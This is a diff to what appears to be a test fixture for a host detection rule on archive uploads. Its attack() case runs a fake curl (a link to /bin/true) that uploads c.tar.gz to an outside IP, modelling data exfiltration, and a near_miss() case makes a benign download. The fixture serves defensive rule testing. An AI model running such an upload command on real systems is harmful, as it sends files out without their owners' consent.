@@ -1,10 +1,10 @@
 # rule: Archive uploaded with a download tool
 # where: host
 attack() {
-    cp /bin/true curl
+    ln -s /bin/true curl
     ./curl -T c.tar.gz https://192.0.2.9/u/
 }
 near_miss() {
-    cp /bin/true curl
+    ln -s /bin/true curl
     ./curl -fLO https://192.0.2.9/c.tar.gz
 }
